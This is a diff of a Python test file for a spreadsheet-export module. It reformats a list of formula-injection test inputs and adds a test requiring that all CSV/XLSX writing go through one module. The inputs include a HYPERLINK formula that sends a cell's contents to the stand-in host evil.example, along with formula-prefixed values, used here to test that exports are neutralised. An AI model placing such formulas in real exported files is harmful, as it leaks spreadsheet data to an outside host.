@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 from gbvms.core import tabular
 
 EVIL = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
     "+1+2",
     "-2+3",
     "@SUM(A1:A2)",
@@ -72,3 +72,18 @@ def test_responses_are_attachments():
     assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
     response = tabular.xlsx_response([["a"]], filename="x.xlsx")
     assert response["Content-Type"] == tabular.XLSX_TYPE
+
+
+def test_no_other_module_writes_csv_or_xlsx():
+    """The rule of docs/architecture.md: every CSV/XLSX the system writes goes through
+    core.tabular (a new export that calls csv.writer or openpyxl itself fails here)."""
+    from pathlib import Path
+
+    root = Path(tabular.__file__).resolve().parents[1]
+    writers = ("csv.writer(", "csv.DictWriter(", "Workbook(", "text/csv")
+    offenders = [
+        str(path.relative_to(root))
+        for path in root.rglob("*.py")
+        if path.name != "tabular.py" and any(w in path.read_text() for w in writers)
+    ]
+    assert offenders == []
